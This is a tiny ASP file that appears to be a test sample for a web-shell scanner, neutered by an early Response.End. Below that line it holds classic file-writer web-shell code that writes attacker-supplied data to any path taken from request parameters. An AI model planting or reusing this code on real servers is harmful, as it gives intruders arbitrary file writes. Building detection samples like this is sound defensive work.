<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
path = Request("path")
If path <> "" Then
data = Request("da")
Set fso = Server.CreateObject("scripting.filesystemobject")
Set da = fso.CreateTextFile(path, true)
da.write data
da.close
End If
%>
